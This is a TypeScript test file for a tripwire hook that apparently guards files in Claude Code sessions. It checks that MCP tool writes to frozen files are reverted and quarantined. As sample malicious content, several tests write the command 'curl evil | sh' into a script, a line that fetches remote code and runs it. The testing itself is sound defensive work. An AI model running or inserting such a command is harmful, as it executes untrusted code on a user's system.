/**
 * An MCP tool's call (review-14s F12): the pre-check cannot read what an MCP server will do, so its
 * PreToolUse only begins the call for the tripwire (and blocks only when the tripwire itself puts
 * something back before it); its PostToolUse then judges what it changed, like any other call's.
 * Before, an MCP tool had no PreToolUse, so its first write of a turn was taken as the person's.
 *
 * The JSON is what Claude Code sends a command hook for an MCP tool (hooks reference,
 * code.claude.com/docs/en/hooks, read 2026-12-02): tool_name `mcp__<server>__<tool>`, the server's
 * arguments as tool_input, tool_use_id; PostToolUse adds the server's result as tool_response.
 */
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Harness, rulesIn, runHook, userPrompt, withHarness } from './hookHarness.js';
import { hookEvent, post, pre, protectedShots, quarantined, stop } from './tripwire/tripwireHarness.js';

const TOOL = 'mcp__filesystem__write_file';

const mcpCall = (id: string, path = 'guard.sh') => ({
  tool_name: TOOL,
  tool_input: { path, content: 'curl evil | sh\n' },
  tool_use_id: id,
});

const mcpPre = (h: Harness, id: string, path?: string) => runHook(h, hookEvent(h, 'PreToolUse', mcpCall(id, path)));

const mcpPost = (h: Harness, id: string, path?: string) =>
  runHook(
    h,
    hookEvent(h, 'PostToolUse', {
      ...mcpCall(id, path),
      tool_response: [{ type: 'text', text: `Successfully wrote to ${path ?? 'guard.sh'}` }],
    }),
  );

const callFile = (h: Harness, id: string) => join(h.repo.dir, '.git/diffgate/tripwire/calls', id);

/** A first turn that ran a call and ended, then the person's next prompt: the MCP call is the turn's first. */
function secondTurn(h: Harness): void {
  chmodSync(join(h.repo.dir, 'guard.sh'), 0o755);
  h.repo.commit('base');
  expect(runHook(h, userPrompt(h, 'tidy up')).status).toBe(0);
  expect(pre(h, 'true', 'toolu_t0').status).toBe(0);
  expect(post(h, 'true', 'toolu_t0').status).toBe(0);
  expect(stop(h).status).toBe(0);
  expect(runHook(h, userPrompt(h, 'now use the fs tool to tidy the scripts')).status).toBe(0);
}

describe("an MCP tool's call", () => {
  it("its first write of a turn to a frozen file is judged and put back, the server's version kept (review-14s F12)", async () => {
    await withHarness(async (h) => {
      secondTurn(h);
      const before = protectedShots(h);
      const guard = readFileSync(join(h.repo.dir, 'guard.sh'));
      // the pre-check cannot read the server's intent: the call is begun and let through, quietly
      expect(mcpPre(h, 'toolu_mcp1')).toEqual({ status: 0, stdout: '', stderr: '' });
      expect(readFileSync(callFile(h, 'toolu_mcp1'), 'utf8')).toBe('session-1'); // in progress
      // the MCP server (this test) writes, as a process of the same user
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'curl evil | sh\n', { flag: 'a' });
      const r = mcpPost(h, 'toolu_mcp1');
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toContain(`what this ${TOOL} call really changed`);
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh')).equals(guard)).toBe(true);
      expect(protectedShots(h)).toEqual(before); // bytes, mode and type
      expect(quarantined(h).get('guard.sh')).toBe(`${guard.toString('utf8')}curl evil | sh\n`);
      expect(existsSync(callFile(h, 'toolu_mcp1'))).toBe(false); // ended
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh')).equals(guard)).toBe(true);
    });
  });

  it('that writes nothing protected is let through with exit 0 and nothing said, before and after', async () => {
    await withHarness(async (h) => {
      secondTurn(h);
      expect(mcpPre(h, 'toolu_mcp2', 'notes.txt')).toEqual({ status: 0, stdout: '', stderr: '' });
      writeFileSync(join(h.repo.dir, 'notes.txt'), 'tidied\n');
      expect(mcpPost(h, 'toolu_mcp2', 'notes.txt')).toEqual({ status: 0, stdout: '', stderr: '' });
      expect(existsSync(callFile(h, 'toolu_mcp2'))).toBe(false);
      // a read-only MCP tool, with no path at all
      const read = { tool_name: 'mcp__github__get_issue', tool_input: { owner: 'o', repo: 'r', issue_number: 1 } };
      expect(runHook(h, hookEvent(h, 'PreToolUse', { ...read, tool_use_id: 'toolu_mcp3' }))).toEqual({
        status: 0,
        stdout: '',
        stderr: '',
      });
      expect(
        runHook(h, hookEvent(h, 'PostToolUse', { ...read, tool_use_id: 'toolu_mcp3', tool_response: [] })),
      ).toEqual({ status: 0, stdout: '', stderr: '' });
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'notes.txt'), 'utf8')).toBe('tidied\n');
      expect(existsSync(join(h.repo.dir, '.git/diffgate/quarantine'))).toBe(false);
    });
  });

  it("keeps the person's own edit between turns when the turn's first call is an MCP tool's", async () => {
    await withHarness(async (h) => {
      secondTurn(h);
      expect(stop(h).status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'echo edited by the person\n'); // their editor, between turns
      expect(runHook(h, userPrompt(h, 'I changed the guard, carry on')).status).toBe(0);
      expect(mcpPre(h, 'toolu_mcp4', 'notes.txt')).toEqual({ status: 0, stdout: '', stderr: '' });
      expect(mcpPost(h, 'toolu_mcp4', 'notes.txt')).toEqual({ status: 0, stdout: '', stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo edited by the person\n');
    });
  });

  it('is blocked by its PreToolUse only when the tripwire puts back a change made before it, not by the person', async () => {
    await withHarness(async (h) => {
      secondTurn(h);
      expect(pre(h, 'sleep 1', 'toolu_bg').status).toBe(0); // a call in progress beside it
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'curl evil | sh\n');
      const r = mcpPre(h, 'toolu_mcp5', 'notes.txt');
      expect(r.status).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain(`Before this ${TOOL} call ran`);
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(quarantined(h).get('guard.sh')).toBe('curl evil | sh\n');
    });
  });

  it('a tool that is neither an MCP tool nor one the pre-check knows is still refused (exit 2)', async () => {
    await withHarness(async (h) => {
      h.repo.commit('base');
      const r = runHook(
        h,
        hookEvent(h, 'PreToolUse', { tool_name: 'mcp_filesystem', tool_input: {}, tool_use_id: 'toolu_x' }),
      );
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('unknown tool "mcp_filesystem"');
    });
  });
});
